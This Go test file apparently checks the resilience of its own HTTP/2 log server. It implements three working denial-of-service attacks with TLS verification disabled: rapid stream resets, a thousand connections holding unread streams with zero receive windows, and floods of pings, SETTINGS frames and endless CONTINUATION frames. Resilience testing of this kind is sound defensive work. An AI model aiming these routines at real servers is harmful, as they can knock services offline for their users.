package attacks_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is an HTTP/2 connection of which every frame is the attacker's.
type h2 struct {
	*http2.Framer
	conn   *tls.Conn
	a      *arena
	stream uint32
}

// h2 connects, with windows of the given size for answers.
func (a *arena) h2(ctx context.Context, i int, window uint32) *h2 {
	raw := a.connect(ctx, i)
	if raw == nil {
		return nil
	}
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err := conn.HandshakeContext(ctx); err != nil {
		raw.Close()
		a.note("handshake failed")
		return nil
	}
	_, _ = io.WriteString(conn, http2.ClientPreface)
	h := &h2{Framer: http2.NewFramer(conn, conn), conn: conn, a: a, stream: 1}
	_ = h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	return h
}

// request begins a request and returns its stream.
func (h *h2) request(method, path string, end bool, more ...string) (uint32, error) {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	fields := append([]string{":method", method, ":scheme", "https", ":authority", h.a.address, ":path", "/" + h.a.log.Conf.Name + "/" + path}, more...)
	for n := 0; n+1 < len(fields); n += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: fields[n], Value: fields[n+1]})
	}
	id := h.stream
	h.stream += 2
	return id, h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: b.Bytes(), EndStream: end, EndHeaders: true})
}

// rapidReset begins requests and resets them at once.
func rapidReset(ctx context.Context, a *arena) {
	workers(ctx, 32, func(ctx context.Context, i int) {
		h := a.h2(ctx, i, 65535)
		if h == nil {
			return
		}
		defer h.conn.Close()
		go func() { _, _ = discard(h.conn) }()
		for ctx.Err() == nil {
			id, err := h.request("GET", "checkpoint", true)
			if err == nil {
				err = h.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				a.note(cut)
				return
			}
			a.note("reset")
		}
	})
}

// unreadStreams begins as many requests as it may on each connection, gives them
// bodies that nobody reads, and takes no answer.
func unreadStreams(ctx context.Context, a *arena) {
	n := a.size(ctx)
	chunk := make([]byte, 16<<10)
	workers(ctx, 1000, func(ctx context.Context, i int) {
		h := a.h2(ctx, i, 0)
		if h == nil {
			return
		}
		defer h.conn.Close()
		go func() { _, _ = discard(h.conn) }()
		sent := 0
		for s := range 100 {
			id, err := h.request("GET", "tile/data/"+tilePath(int64(s)%max(1, n/256), 256), false)
			if err != nil {
				a.note(cut)
				return
			}
			for ; sent < (s+1)*10<<10; sent += len(chunk) {
				_ = h.WriteData(id, false, chunk)
			}
		}
		a.note("full connection")
		<-ctx.Done()
	})
}

// floodHeaders sends heads without end: continuations, and settings and pings to
// be acknowledged.
func floodFrames(ctx context.Context, a *arena) {
	workers(ctx, 32, func(ctx context.Context, i int) {
		h := a.h2(ctx, i, 65535)
		if h == nil {
			return
		}
		defer h.conn.Close()
		if i%3 == 0 { // an answer to a ping is never read otherwise
			go func() { _, _ = discard(h.conn) }()
		}
		if i%3 == 2 {
			_ = h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}, EndStream: true})
		}
		for n := 0; ctx.Err() == nil; n++ {
			var err error
			switch i % 3 {
			case 0:
				err = h.WritePing(false, [8]byte{byte(n)})
			case 1:
				err = h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n)})
			case 2:
				err = h.WriteContinuation(1, false, bytes.Repeat([]byte{0x40, 1, 'a', 1, 'b'}, 1000))
			}
			if err != nil {
				a.note(cut)
				return
			}
		}
	})
}
